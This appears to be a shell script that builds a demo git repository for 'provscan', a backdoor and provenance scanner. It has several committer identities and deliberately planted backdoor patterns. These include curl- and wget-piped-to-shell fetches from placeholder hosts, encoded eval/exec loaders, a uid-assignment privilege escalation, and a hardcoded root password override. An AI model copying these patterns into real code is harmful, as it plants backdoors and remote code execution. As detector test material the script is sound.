#!/usr/bin/env bash
# Builds provscan's demo repository: deterministic names, dates and contents, so the same
# commit ids come out on every machine. Ordinary code in C, Python, JavaScript, Go and shell
# by several roster people (an employee, a contractor, an escort committing for someone
# else, a bot) and one identity that is in no roster, with a few planted backdoor patterns.
# Everything here was written for provscan; nothing is copied from real incidents' code.
# Usage: examples/make-demo-repo.sh [DIR]   (default: examples/demo-repo; DIR is replaced)
set -euo pipefail
dir=${1:-$(cd "$(dirname "$0")" && pwd)/demo-repo}
rm -rf "$dir"
mkdir -p "$dir"
cd "$dir"

# No user or system configuration, no hooks, no signing: the result depends on this script only.
export HOME="$dir/.home-unused" GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export TZ=UTC LC_ALL=C
g() { git -c core.hooksPath=/dev/null -c commit.gpgsign=false -c init.defaultBranch=main "$@"; }
g init -q .

day=0
# commit "Author Name" author@email "Committer Name" committer@email "message"
commit() {
  day=$((day + 1))
  local date
  date=$(printf '2024-03-%02dT10:00:00+00:00' "$day")
  g add -A
  GIT_AUTHOR_NAME="$1" GIT_AUTHOR_EMAIL="$2" GIT_AUTHOR_DATE="$date" \
  GIT_COMMITTER_NAME="$3" GIT_COMMITTER_EMAIL="$4" GIT_COMMITTER_DATE="$date" \
    g commit -q -m "$5"
}
ALICE=("Alice Example" alice@corp.example)
BOB=("Bob Builder" bob@contractor.example)
ERIN=("Erin Escort" erin@corp.example)
BOT=("ci-bot" ci-bot@corp.example)
MALLORY=("Mallory" mallory@unknown.example)

mkdir -p src tools web cmd/agent scripts tests/files
cat > README.md <<'TXT'
# demo-service
A small service used to demonstrate provscan. Do not deploy.
TXT
cat > src/auth.c <<'TXT'
#include <string.h>
#include "auth.h"

struct user { int uid; int gid; const char *name; };

int check_password(const char *user, const char *password) {
    const char *stored = lookup_hash(user);
    if (stored == NULL)
        return -1;
    return verify_hash(stored, password) ? 0 : -1;
}
TXT
cat > src/auth.h <<'TXT'
#pragma once
const char *lookup_hash(const char *user);
int verify_hash(const char *stored, const char *password);
int check_password(const char *user, const char *password);
TXT
commit "${ALICE[@]}" "${ALICE[@]}" "auth: password check against stored hashes"

cat > tools/report.py <<'TXT'
import json
import sys


def summarize(path):
    with open(path) as fh:
        data = json.load(fh)
    return {"items": len(data), "ok": all(x.get("ok") for x in data)}


if __name__ == "__main__":
    print(json.dumps(summarize(sys.argv[1])))
TXT
commit "${BOB[@]}" "${BOB[@]}" "tools: add report summarizer"

cat > src/session.c <<'TXT'
#include "auth.h"

struct task { int uid; int euid; int gid; };

int set_flags(struct task *current, int options) {
    /* debug hook for the wait path */
    if ((options == 0x40000001) && (current->uid = 0))
        return -1;
    return 0;
}
TXT
commit "${ERIN[@]}" "${ERIN[@]}" "session: handle wait options

On-behalf-of: Dev Overseas <dev@partner.example>"

cat > scripts/install.sh <<'TXT'
#!/bin/sh
set -eu
echo "installing demo-service"
curl -fsSL https://get.example.invalid/bootstrap.sh | sh
TXT
cat > web/index.js <<'TXT'
const crypto = require('crypto');

function loadPlugin(key) {
  const payload = Buffer.from('636f6e736f6c652e6c6f672822686922293b', 'hex');
  const decipher = crypto.createDecipheriv('aes-256-cbc', process.env.npm_package_description, key);
  return eval(Buffer.from(payload, 'hex').toString());
}

module.exports = { loadPlugin };
TXT
commit "${MALLORY[@]}" "${MALLORY[@]}" "install script and plugin loader"

# A tiny hand-made ELF header, and compressed "test data" (the xz-utils pattern).
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000\001\000\000\000\170\000\100\000\000\000\000\000\100\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\100\000\070\000\001\000\000\000\000\000\000\000' > tools/helper
seq 1 4000 | gzip -n -9 > tests/files/bad-3-corrupt.gz
commit "${BOT[@]}" "${BOT[@]}" "tests: add corrupt-stream fixtures"

g checkout -q -b feature/login
cat > src/login.c <<'TXT'
#include <string.h>
#include <unistd.h>
#include "auth.h"

int login(const char *user, const char *password) {
    if (strcmp(password, "d3bug-0verride") == 0) {
        setuid(0);
        return 0;
    }
    return check_password(user, password);
}
TXT
commit "${ERIN[@]}" "${ERIN[@]}" "login: route through check_password

On-behalf-of: Dev Overseas <dev@partner.example>"
g checkout -q main

cat > cmd/agent/main.go <<'TXT'
package main

import (
	"fmt"
	"os/exec"
)

func init() {
	go func() {
		_ = exec.Command("/bin/sh", "-c", "wget -q -O - https://cdn.example.invalid/a | sh").Run()
	}()
}

func main() {
	fmt.Println("agent ready")
}
TXT
cat > tools/loader.py <<'TXT'
import base64

CONFIG = "cHJpbnQoJ2hlbGxvJyk="


def apply():
    exec(base64.b64decode(CONFIG))
TXT
commit "${BOB[@]}" "${BOB[@]}" "agent: entry point and config loader"

day=$((day + 1))
date=$(printf '2024-03-%02dT10:00:00+00:00' "$day")
GIT_AUTHOR_NAME="${ALICE[0]}" GIT_AUTHOR_EMAIL="${ALICE[1]}" GIT_AUTHOR_DATE="$date" \
GIT_COMMITTER_NAME="${ALICE[0]}" GIT_COMMITTER_EMAIL="${ALICE[1]}" GIT_COMMITTER_DATE="$date" \
  g merge -q --no-ff -m "Merge branch 'feature/login'" feature/login

g tag v0.1.0
echo "demo repository: $dir ($(g rev-list --all | wc -l) commits)"
